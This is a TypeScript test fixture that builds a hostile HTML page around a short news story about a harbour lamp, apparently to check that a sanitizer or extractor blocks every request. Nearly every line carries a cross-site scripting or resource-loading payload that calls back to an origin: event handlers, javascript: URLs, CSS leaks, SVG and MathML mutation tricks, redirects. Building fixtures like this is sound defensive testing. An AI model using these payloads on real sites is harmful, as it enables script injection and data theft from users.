/** A page that tries everything to run something or to call `origin`; every request there has a telling path. */
export function hostilePage(origin: string): string {
  const call = (name: string): string => `${origin}/${name}`
  return `<!doctype html><html lang="en" onload="fetch('${call('html-onload')}')"><head>
<title>The quay lamp "goes out" </title></iframe><script>fetch('${call('title')}')</script>
<base href="${call('base')}/" target="_top">
<meta http-equiv="refresh" content="0; url=${call('refresh')}">
<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'">
<meta property="og:type" content="article"><meta property="og:title" content="Harbour lamp &quot;goes out&quot;&lt;img src=${call('og')}&gt;">
<meta property="article:published_time" content="2026-03-10T08:30:00+01:00">
<meta name="author" content='"><img src=${call('author')} onerror=fetch("${call('author-error')}")>'>
<link rel="stylesheet" href="${call('stylesheet')}"><link rel="preload" as="image" href="${call('preload')}">
<link rel="prefetch" href="${call('prefetch')}"><link rel="dns-prefetch" href="${origin}"><link rel="icon" href="${call('icon')}">
<style>@import url(${call('import')}); body { background: url(${call('css-body')}) }
input[value^="a"] { background: url(${call('css-leak')}) } @font-face { font-family: x; src: url(${call('font')}) }
#mark { display: none !important } .mark, .bar { display: none !important }</style>
<script>fetch('${call('head-script')}'); top.location = '${call('top')}'</script>
<script type="application/ld+json">{"@type":"NewsArticle","headline":"</script><script>fetch('${call('ld')}')</script>"}</script>
</head><body onload="fetch('${call('onload')}')" onpointerenter="fetch('${call('pointer')}')" background="${call('background')}" style="background:url(${call('style')})">
<article><h1 onclick="fetch('${call('click')}')" style="background:url('${call('h1')}')">The quay lamp goes out</h1>
<p class="byline" style="position:fixed;inset:0;background:url(${call('fixed')})">By <a rel="author" href="javascript:fetch('${call('js-link')}')" onmouseover="fetch('${call('over')}')">Ines Falk</a></p>
<p>The lamp at the end of the Port Ellery quay went out on Monday night, and no boat could find the harbour mouth until the harbour master lit a fire.</p>
<p><a href="${call('link')}" ping="${call('ping')}" autofocus onfocus="fetch('${call('focus')}')">Fishing crews</a> waited outside the bar for three hours, <a href="data:text/html,<script>fetch('${call('data')}')</script>">said</a> the harbour master, who asked for a new lamp in the spring.</p>
<img src="${call('img')}" srcset="${call('srcset')} 2x" onerror="fetch('${call('img-error')}')" alt='"><script>fetch("${call('alt')}")</script>'>
<picture><source srcset="${call('source')}"><img src=x onerror="fetch('${call('picture-error')}')"></picture>
<svg onload="fetch('${call('svg')}')"><script>fetch('${call('svg-script')}')</script><image href="${call('svg-image')}"/><use href="${call('svg-use')}#x"/><foreignObject><iframe src="${call('svg-frame')}"></iframe></foreignObject><style>*{background:url(${call('svg-style')})}</style><a xlink:href="javascript:fetch('${call('svg-link')}')"><text>drawn text</text></a><animate attributeName="href" values="javascript:fetch('${call('svg-animate')}')"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=fetch('${call('math')}')&gt;"></table></mtext></math>
<iframe src="${call('frame')}"></iframe><iframe srcdoc="<script>fetch('${call('srcdoc')}')</script><img src='${call('srcdoc-img')}'>"></iframe>
<object data="${call('object')}"><param name="x" value="y"></object><embed src="${call('embed')}">
<video src="${call('video')}" poster="${call('poster')}" autoplay></video><audio src="${call('audio')}" autoplay></audio>
<template><img src="${call('template')}"><script>fetch('${call('template-script')}')</script></template>
<noscript><img src="${call('noscript')}"><style>p{background:url(${call('noscript-style')})}</style></noscript>
<form action="${call('form')}" method="post"><input value="abc" name="a" autofocus onfocus="fetch('${call('input-focus')}')"><input type="image" src="${call('input-image')}"><button formaction="${call('formaction')}">Send the form</button></form>
<table background="${call('table')}"><tr><td background="${call('cell')}" colspan="9999" onmouseenter="fetch('${call('cell-enter')}')">A cell of a table that says nothing at all.</td></tr></table>
<x-lamp onclick="fetch('${call('custom')}')" is="x-lamp">An element of its own</x-lamp><marquee onstart="fetch('${call('marquee')}')">moving text</marquee>
<details open ontoggle="fetch('${call('toggle')}')"><summary>More about it</summary>Nothing more</details><dialog open>A box</dialog>
<p>The council will vote on the new lamp in April; until then a guard of two will keep the fire on the outer wall burning every night.</p>
&lt;script&gt;fetch('${call('escaped')}')&lt;/script&gt; "&gt;&lt;/iframe&gt;&lt;img src=${call('escaped-img')}&gt;
<plaintext></iframe></main></form><script>fetch('${call('plaintext')}')</script>`
}
